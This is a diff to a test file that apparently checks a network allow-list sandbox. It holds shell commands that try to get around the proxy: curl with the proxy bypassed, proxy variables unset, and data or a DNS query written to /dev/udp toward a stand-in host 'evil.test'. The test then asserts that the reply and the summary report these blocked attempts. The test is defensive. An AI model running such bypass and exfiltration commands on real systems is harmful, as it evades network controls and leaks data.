@@ -106,7 +106,7 @@ describe('a restrictive policy ("allow": ["allowed.test"])', () => {
       `curl -sS --max-time 5 --noproxy '*' http://127.0.0.3:${p.evil}/raw-ip; echo "exit $?"`,
       `unset HTTP_PROXY HTTPS_PROXY ALL_PROXY http_proxy https_proxy all_proxy; env | grep -Eic '^(https?|all)_proxy='; curl -sS --max-time 5 --resolve evil.test:${p.evil}:127.0.0.3 http://evil.test:${p.evil}/unset; echo "exit $?"`,
       `printf 'exfiltrated' > /dev/udp/127.0.0.3/${p.udp}; echo "exit $?"`,
-      `printf '${DNS_QUERY}' > /dev/udp/127.0.0.3/${p.udp}; echo "exit $?"; getent hosts evil.test; echo "getent $?"`,
+      `printf '${DNS_QUERY}' > /dev/udp/127.0.0.3/${p.udp}; printf '${DNS_QUERY}' > /dev/udp/127.0.0.3/53; echo "exit $?"; getent hosts evil.test; echo "getent $?"`,
       `curl -sS --max-time 5 --noproxy '*' -g 'http://[::1]:${p.v6}/raw-ipv6'; echo "exit $?"`,
       `curl -sS --noproxy '' -g 'http://[::1]:${p.v6}/ipv6-through-proxy'`,
     ];
@@ -154,18 +154,26 @@ describe('a restrictive policy ("allow": ["allowed.test"])', () => {
     expect(evil.seen).toEqual([]);
   });
 
-  it("lists the blocked hosts in the reply, with their counts and the line that would allow each", () => {
-    expect(reply).toContain("🛡️ Network: 4 blocked attempts to 3 hosts not allowed (evil.test, 127.0.0.3, ::1)");
+  it("lists the blocked hosts in the reply: those the proxy refused by name, those the kernel refused by address or DNS name", () => {
+    expect(reply).toMatch(/🛡️ Network: \d+ blocked attempts to 3 hosts not allowed \(evil\.test, 127\.0\.0\.3, ::1\)/);
+    // By name twice (the command and the background job), and as DNS queries: the one to port 53, and
+    // those of the system's resolver (getent), as many as it sends.
+    const named =
+      /- `evil\.test`: (\d+) attempts \(around the proxy: dns\); to allow it: `"network": \{"allow":\["allowed\.test","evil\.test"\]\}`/.exec(
+        reply,
+      );
+    expect(Number(named?.[1])).toBeGreaterThanOrEqual(3);
+    // Through the proxy once; around it: the raw address, with the variables unset, UDP twice, the job.
     expect(reply).toContain(
-      '- `evil.test`: 2 attempts; to allow it: `"network": {"allow":["allowed.test","evil.test"]}`',
+      `- \`127.0.0.3\`: 6 attempts (around the proxy: tcp/${evil.port}, udp/${udp.port}); to allow it: \`"network": {"allow":["allowed.test","127.0.0.3"]}\``,
     );
-    expect(reply).toContain("- `127.0.0.3`: 1 attempt");
+    expect(reply).toContain("- `::1`: 1 attempt; to allow it:");
   });
 
   it("shows the policy, the blocked hosts and the allowed hosts used in the job summary", () => {
     expect(summary).toContain("### Network\n\nPolicy: allow `allowed.test`.");
-    expect(summary).toContain(
-      "| blocked host | attempts |\n|---|---|\n| `evil.test` | 2 |\n| `127.0.0.3` | 1 |\n| `::1` | 1 |",
+    expect(summary).toMatch(
+      /\| blocked host \| attempts \|\n\|---\|---\|\n\| `evil\.test` \| \d+ \|\n\| `127\.0\.0\.3` \| 6 \|\n\| `::1` \| 1 \|/,
     );
     expect(summary).toContain("| allowed host used | connections |\n|---|---|\n| `allowed.test` | 1 |");
   });
